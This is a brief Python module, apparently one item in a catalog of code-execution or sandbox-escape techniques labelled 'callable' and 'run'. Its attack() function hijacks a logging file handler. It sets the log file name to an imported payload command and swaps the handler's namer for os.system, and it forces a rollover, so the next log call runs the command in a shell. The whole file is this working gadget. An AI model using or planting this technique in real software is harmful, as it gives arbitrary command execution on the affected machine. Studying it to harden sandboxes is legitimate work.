"""A log's file is called a command, and named anew by a function of C."""
CATEGORY = "callable"
REACH = "run"

import logging
import os

from . import payload


def attack():
    handler = logging.getLogger().handlers[0]
    handler.baseFilename = payload.COMMAND + " #"
    handler.namer = os.system
    handler.shouldRollover = bool
